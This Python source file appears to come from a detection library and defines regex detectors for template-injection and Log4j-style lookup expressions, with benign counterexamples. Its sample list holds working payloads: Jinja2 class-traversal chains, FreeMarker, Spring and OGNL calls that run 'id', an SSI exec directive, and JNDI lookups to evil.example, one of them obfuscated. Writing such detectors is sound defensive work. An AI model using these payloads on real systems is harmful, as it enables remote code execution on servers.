"""Expressions that a template engine or a logger would evaluate."""

from __future__ import annotations

from axonflow.detect.detector import Detector
from axonflow.detect.packs.code_shapes import code, runs

__all__ = ["TEMPLATES"]

_OPEN = r"(?:\{\{|\$\{|#\{|\*\{|~\{|@\{|<%[=\s-]|\{%|\[\[\$?\{?|\{=|\{@|@\()"
_PRODUCT = r"\s{0,2}['\"]?[0-9]{1,8}['\"]?\s?\*\s?['\"]?[0-9]{1,8}['\"]?\s{0,2}"

TEMPLATES: tuple[Detector, ...] = (
    code(
        "code.template",
        "high",
        "An expression that makes a template engine run code.",
        (
            # A product of two numbers is how testers ask whether anything evaluates them.
            runs(
                rf"\{{\{{{{1,2}}={{0,1}}{_PRODUCT}\}}\}}|[$#*~@]\{{{{1,2}}[0-9]{{1,8}}\*'?[0-9]{{1,8}}'?\}}|<%={{0,1}}{_PRODUCT}%>"
                rf"|\{{=?[0-9]{{1,8}}\*[0-9]{{1,8}}\}}|@\([0-9]{{1,8}}\*[0-9]{{1,8}}\)|\{{php\}}",
                "{{",
                "${",
                "#{",
                "*{",
                "~{",
                "@{",
                "<%",
                "@(",
                "{=",
                *(f"{{{digit}" for digit in "0123456789"),
                "{php}",
            ),
            runs(
                rf"{_OPEN}[^\n]{{0,200}}(?:__(?:class|mro|bases?|subclasses|globals|builtins|import|init|self|getattribute)__"
                r"|\|\s?attr\s?\(|registerUndefinedFilterCallback|getFilter\(|_TemplateReference__context"
                r"|config\.items\(|\.constructor\.constructor|constructor\.constructor\(|\.__proto__)",
                "__",
                "attr",
                "registerundefinedfiltercallback",
                "getfilter(",
                "config.items(",
                "constructor",
                confidence=0.95,
            ),
            runs(
                rf"(?i){_OPEN}[^\n]{{0,200}}(?:java\.lang\.|T\s?\(\s?(?:java|org|javax)\.|getRuntime\s?\(|ProcessBuilder|getClass\s?\(\)"
                r"|\.class\.forName|freemarker\.template\.utility|\?new\s?\(\)|\?api\b|javax\.script)",
                "java.",
                "org.",
                "javax.",
                "getruntime",
                "processbuilder",
                "getclass",
                "forname",
                "freemarker",
                "?new",
                "?api",
                confidence=0.95,
            ),
            runs(r"(?i)<#assign\s[^>\n]{1,120}\?new\s?\(\)", "<#assign", confidence=0.95),
            runs(
                r"(?i)#set\s?\(\s?\$\w{1,32}\s?=[^\n]{0,160}(?:\.class\b|forName|getRuntime|\.getClass)|\$class\.(?:inspect|type)",
                "#set",
                "$class.",
                confidence=0.95,
            ),
            runs(
                r"(?i)<%=?[^%\n]{0,80}(?:\bsystem\s?\(|`[^`\n]{1,80}`|IO\.popen|\bexec\s?\(|File\.(?:open|read)\s?\(|Dir\.entries|require\s?\(?['\"]child_process)",
                "<%",
            ),
            runs(
                rf"(?i){_OPEN}[^\n]{{0,120}}(?:\bos\.(?:popen|system)\s?\(|subprocess|child_process|\bpopen\s?\(|\|\s?(?:filter|map|sort|reduce)\s?\(\s?['\"](?:system|exec|passthru|shell_exec))",
                "popen",
                "os.system",
                "subprocess",
                "child_process",
                "filter",
                "map",
                "sort",
                "reduce",
                confidence=0.9,
            ),
            runs(r"(?i)\$\{jndi:[a-z]{2,6}:[^\s}]{0,200}\}?", "${jndi:", confidence=0.99),
            runs(
                r"(?i)\$\{[a-z]{0,3}(?:\$\{(?:lower:|upper:|[\w:.]{0,24}:-)[^{}\n]{0,12}\}[a-z:]{0,8}){1,8}[^\n}]{0,160}\}?",
                "${lower:",
                "${upper:",
                ":-",
                confidence=0.95,
            ),
            runs(
                r"%\{[^\n]{0,40}(?:#\w{1,32}\s?=|#_memberAccess|@java\.lang|#context|#application)|\(#_memberAccess",
                "%{",
                "(#_memberaccess",
                confidence=0.95,
            ),
            runs(r"(?i)@java\.lang\.(?:Runtime|System|ProcessBuilder)@", "@java.lang.", confidence=0.97),
            runs(
                r"(?m)^\{\{\s?(?:config|self|settings|request|_self|_context|app|dump\(app\))\s?\}\}$",
                "{{config",
                "{{ config",
                "{{self",
                "{{ self",
                "{{settings",
                "{{ settings",
                "{{request",
                "{{ request",
                "{{_",
                "{{ _",
                "{{app",
                "{{ app",
                "{{dump",
                "{{ dump",
                confidence=0.6,
            ),
            runs(r"<!--#(?:exec|include)\s{1,3}(?:cmd|virtual|file)\s{0,2}=", "<!--#exec", "<!--#include"),
        ),
        (
            "{{7*7}}",
            "{{config}}",
            "${7*7}",
            "Hello {{ 7*'7' }}",
            "<%= 7 * 7 %>",
            "#{191*7}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{ config.items() }}",
            "{{request|attr('application')}}",
            "{{constructor.constructor('alert(1)')()}}",
            '${"freemarker.template.utility.Execute"?new()("id")}',
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            '<#assign ex="freemarker.template.utility.Execute"?new()>',
            "#set($e='');$e.getClass().forName('java.lang.Runtime')",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "<%= system('id') %>",
            "{{['id']|filter('system')}}",
            "${jndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            '<!--#exec cmd="id" -->',
        ),
        (
            "Hello {{ user.name }}, you have {{ count }} messages.",
            "{{ config(materialized='table') }} and {{ price * 2 }}",
            "const ms = `${hours * 3600} s`; `${a*b}`",
            "<%= @user.name %> <% if x %>",
            "echo ${HOME} #{name} @{u} %{version}",
            "{% for item in items %}{{ item|upper }}{% endfor %}",
            "def __init__(self): self.__class__.__name__",
            "Runtime.getRuntime() is a method of java.lang.Runtime",
            "width: calc(2*3px); #7*7",
            "JNDI is an interface for directories.",
        ),
    ),
)
